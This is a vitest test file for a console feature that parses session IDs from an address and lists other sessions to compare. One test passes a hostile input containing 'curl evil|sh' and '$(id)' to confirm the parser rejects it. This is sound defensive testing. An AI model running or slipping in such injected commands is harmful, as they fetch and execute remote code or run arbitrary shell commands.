import { describe, expect, it } from 'vitest';
import { chosenOf, listOffers } from '../../../console/compare/chosen.ts';

const session = (sessionId: string, title: string) => ({ sessionId, title });

describe('the runs that an address names', () => {
  it('are each named once, and no more than can be compared', () => {
    expect(chosenOf(undefined)).toEqual([]);
    expect(chosenOf('ses_a,ses_b,,ses_a')).toEqual(['ses_a', 'ses_b']);
    expect(
      chosenOf(
        'a b c d e f g h i'
          .split(' ')
          .map((each) => `ses_${each}`)
          .join(','),
      ),
    ).toHaveLength(8);
  });

  it('are none where a word of the address can be no session', () => {
    expect(chosenOf('ses_a;curl evil|sh,$(id),-h,run_b,ses_c')).toEqual(['ses_c']);
  });

  it('leave the others to choose from, those on the same objective first', () => {
    const all = [session('a', 'One'), session('b', 'Two'), session('c', 'One')];
    expect(listOffers(all, ['a']).map(({ sessionId }) => sessionId)).toEqual(['c', 'b']);
    expect(listOffers(all, [])).toEqual(all);
  });
});
